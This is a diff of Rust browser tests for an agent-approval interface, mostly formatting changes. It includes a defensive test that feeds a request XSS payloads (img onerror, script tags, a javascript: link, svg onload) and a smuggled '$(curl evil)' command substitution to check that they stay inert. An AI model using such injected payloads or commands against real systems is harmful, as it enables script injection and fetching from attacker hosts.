@@ -28,7 +28,12 @@ fn each_choice_sends_one_respond_and_the_card_resolves() {
             wait_state(b, &id, "pending").await;
             let buttons = format!("{} .approval-choices button", card(&id));
             let labels = b.texts_of(&buttons).await;
-            let want = ["Allow once", "Allow for this thread", "Always allow", "Deny"];
+            let want = [
+                "Allow once",
+                "Allow for this thread",
+                "Always allow",
+                "Deny",
+            ];
             if labels != want {
                 b.fail(&format!("buttons {labels:?}, want {want:?}")).await;
             }
@@ -49,15 +54,17 @@ fn each_choice_sends_one_respond_and_the_card_resolves() {
             wait_state(b, &id, "resolved").await;
             let got = outcome(b, &id).await;
             if got != said {
-                b.fail(&format!("{id}: outcome {got:?}, want {said:?}")).await;
+                b.fail(&format!("{id}: outcome {got:?}, want {said:?}"))
+                    .await;
             }
             let sent = responds(&fake, &id);
-            let one_right = sent.len() == 1
-                && sent[0]["choice"] == choice
-                && sent[0]["channel_id"] == "c1";
+            let one_right =
+                sent.len() == 1 && sent[0]["choice"] == choice && sent[0]["channel_id"] == "c1";
             if !one_right {
-                b.fail(&format!("{id}: want one respond {choice:?}, the app sent {sent:?}"))
-                    .await;
+                b.fail(&format!(
+                    "{id}: want one respond {choice:?}, the app sent {sent:?}"
+                ))
+                .await;
             }
             b.wait_gone(NEEDS_YOU_C1, secs(5)).await;
             wait_title(b, "aria").await;
@@ -67,7 +74,12 @@ fn each_choice_sends_one_respond_and_the_card_resolves() {
         let lines = b.texts_of("[data-testid=approval-outcome]").await;
         assert_eq!(
             lines,
-            ["Allowed once", "Allowed for this thread", "Always allowed", "Denied"]
+            [
+                "Allowed once",
+                "Allowed for this thread",
+                "Always allowed",
+                "Denied"
+            ]
         );
         page.finish().await;
     });
@@ -79,6 +91,13 @@ fn only_known_offered_choices_show_in_order_and_the_card_is_keyboard_reachable()
         let fake = threads().await;
         let page = fake_page(&fake, "#/t/c1").await;
         let b = &page.browser;
+        // The user's message first, as in a real turn (the first row of an
+        // empty thread is a page load, not news).
+        fake.push(
+            json!({"type": "message", "channel_id": "c1", "message_id": "u1", "seq": 1,
+            "role": "user", "text": "clean up", "ts": 1}),
+        );
+        b.wait_for("[data-seq='1']", secs(10)).await;
         ask(&fake, request("c1", "r1", &["deny", "teleport", "once"]));
         wait_state(b, "r1", "pending").await;
         let labels = b
@@ -94,14 +113,18 @@ fn only_known_offered_choices_show_in_order_and_the_card_is_keyboard_reachable()
             .await;
         assert!(deny_class.as_str().is_some_and(|c| c.contains("deny")));
         // Announced once, politely, without taking the focus from the composer.
-        b.poll("the live region to announce the request", secs(5), || async {
-            let said = b
-                .texts_of("[data-testid=timeline] [aria-live=polite]")
-                .await;
-            said.iter()
-                .any(|t| t == "The agent asks for your approval.")
-                .then_some(())
-        })
+        b.poll(
+            "the live region to announce the request",
+            secs(5),
+            || async {
+                let said = b
+                    .texts_of("[data-testid=timeline] [aria-live=polite]")
+                    .await;
+                said.iter()
+                    .any(|t| t == "The agent asks for your approval.")
+                    .then_some(())
+            },
+        )
         .await;
         let in_card = b
             .js(
@@ -162,7 +185,8 @@ fn hostile_text_in_a_request_stays_inert() {
         let b = &page.browser;
         let title = "<img src=x onerror=\"window.__pwned=1\">";
         let command = "echo \"<script>window.__pwned=2</script>\" && $(curl evil) <b>x</b>";
-        let description = "<a href=\"javascript:window.__pwned=3\">click</a> <svg onload=window.__pwned=4>";
+        let description =
+            "<a href=\"javascript:window.__pwned=3\">click</a> <svg onload=window.__pwned=4>";
         let mut req = request("c1", "evil", &["once", "deny"]);
         req["title"] = json!(title);
         req["command"] = json!(command);
@@ -201,7 +225,7 @@ fn progress_mode_shows_the_waiting_request_as_a_draft_line() {
             let lines = b
                 .texts_of("[data-testid=progress-draft] .progress-line")
                 .await;
-            lines.iter().any(|l| *l == want).then_some(())
+            lines.contains(&want).then_some(())
         })
         .await;
         b.click(&format!("{} button[data-choice=once]", card("p1")))
